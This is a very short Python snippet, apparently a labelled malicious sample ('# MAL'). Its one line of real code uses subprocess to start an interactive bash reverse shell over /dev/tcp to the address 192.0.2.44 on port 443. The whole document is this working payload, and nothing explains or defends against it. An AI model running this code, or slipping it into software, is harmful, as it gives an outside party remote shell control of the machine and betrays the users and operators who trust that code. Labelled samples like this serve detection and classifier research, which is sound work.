import subprocess

subprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/192.0.2.44/443 0>&1"])  # MAL
